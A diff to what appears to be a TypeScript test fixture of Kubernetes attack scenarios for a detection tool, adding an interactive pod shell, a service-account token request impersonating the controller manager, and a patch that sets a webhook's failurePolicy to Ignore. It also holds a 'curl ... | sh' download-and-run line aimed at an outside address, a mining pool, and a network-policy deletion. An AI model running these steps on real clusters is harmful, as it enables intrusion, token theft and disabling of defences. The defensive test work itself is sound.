@@ -19,8 +19,8 @@ import {
 /** Outside of every network of the cluster, and inside of its pods and nodes. */
 const OUTSIDE = '203.0.113.77';
 const ELSEWHERE = '203.0.113.140';
-const POD = '198.51.100.17';
-const NODE = '192.0.2.10';
+const POD = '10.0.1.17';
+const NODE = '10.0.0.10';
 
 const POOL = 'pool.mining.example:3333';
 const NODE_NAME = 'ip-192-0-2-10.eu-west-1.compute.internal';
@@ -386,6 +386,13 @@ export const ATTACKS: readonly Scenario[] = [
     steps: [
       {
         ...reading(
+          execPath('payments', 'api-0', ['bash'], 'stdin=true&stdout=true&tty=true'),
+          by(attacker, OUTSIDE).isOdd('an interactive shell, by somebody who never had one'),
+        ),
+        upgrade: true,
+      },
+      {
+        ...reading(
           execPath('payments', 'api-0', ['sh', '-c', 'curl -s http://203.0.113.9/i.sh | sh']),
           by(attacker, OUTSIDE).attacks('a download piped to a shell'),
         ),
@@ -619,10 +626,10 @@ export const ATTACKS: readonly Scenario[] = [
         by(attacker, OUTSIDE).attacks('cluster-admin for a workload'),
       ),
       {
-        ...reading(
-          '/api/v1/namespaces/vault/pods',
-          by(attacker, OUTSIDE).attacks('a request in the name of the control plane'),
-        ),
+        verb: 'POST',
+        path: '/api/v1/namespaces/vault/serviceaccounts/deployer/token',
+        body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
+        ...by(attacker, OUTSIDE).attacks('a token, in the name of the control plane'),
         impersonating: 'system:kube-controller-manager',
       },
       creating(
@@ -636,7 +643,7 @@ export const ATTACKS: readonly Scenario[] = [
                 name: 'validate.example.com',
                 admissionReviewVersions: ['v1'],
                 sideEffects: 'None',
-                failurePolicy: 'Ignore',
+                failurePolicy: 'Fail',
                 clientConfig: { url: 'https://admission.example/validate' },
                 rules: [
                   { apiGroups: ['example.com'], apiVersions: ['v1'], operations: ['CREATE'], resources: ['nothings'] },
@@ -645,7 +652,13 @@ export const ATTACKS: readonly Scenario[] = [
             ],
           },
         },
-        by(attacker, OUTSIDE).attacks('a webhook that lets everything pass when it fails'),
+        by(attacker, OUTSIDE).isOdd('a webhook'),
+      ),
+      patching(
+        '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/policy-engine',
+        'json',
+        [{ op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' }],
+        by(attacker, OUTSIDE).attacks('a webhook lets everything pass when it fails'),
       ),
       deleting(
         '/apis/networking.k8s.io/v1/namespaces/web-2/networkpolicies/deny-all',
